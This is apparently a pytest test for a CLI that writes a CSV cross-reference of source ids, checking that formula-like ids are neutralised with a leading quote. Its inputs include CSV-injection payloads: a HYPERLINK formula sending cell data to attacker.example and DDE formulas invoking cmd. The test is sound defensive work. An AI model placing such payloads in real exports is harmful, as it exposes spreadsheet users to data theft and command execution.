"""`rcu xref` writes a CSV that stewards open in a spreadsheet: a source id sent by a source system
must never run there as a formula, and a plain id comes out exactly as it went in."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from opensearchpy import OpenSearch
from typer.testing import CliRunner

from rcu.cli import app
from search.indices import IndexNames
from search.resolve.config import ResolutionConfig
from search.resolve.pipeline import resolve_all
from settings import get_settings
from tests.conftest import Ingest

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"voir")'


def test_xref_never_writes_a_source_id_a_spreadsheet_would_run_as_a_formula(
    opensearch: OpenSearch, ingest: Ingest, names: IndexNames, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sent = [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-42", "+33612345678", "CRM-001"]
    summary, _ = ingest([{"source": "crm", "source_id": source_id, "family_name": f"Xref{i}"} for i, source_id in enumerate(sent)])
    assert summary.rejected == 0
    resolve_all(opensearch, names, ResolutionConfig())
    monkeypatch.setenv("RCU_INDEX_PREFIX", names.prefix)
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(app, ["xref", "--out", str(tmp_path / "xref.csv")])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    with (tmp_path / "xref.csv").open(encoding="utf-8", newline="") as stream:
        written = {row["source_id"] for row in csv.DictReader(stream)}
    assert written == {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-42", "+33612345678", "CRM-001"}
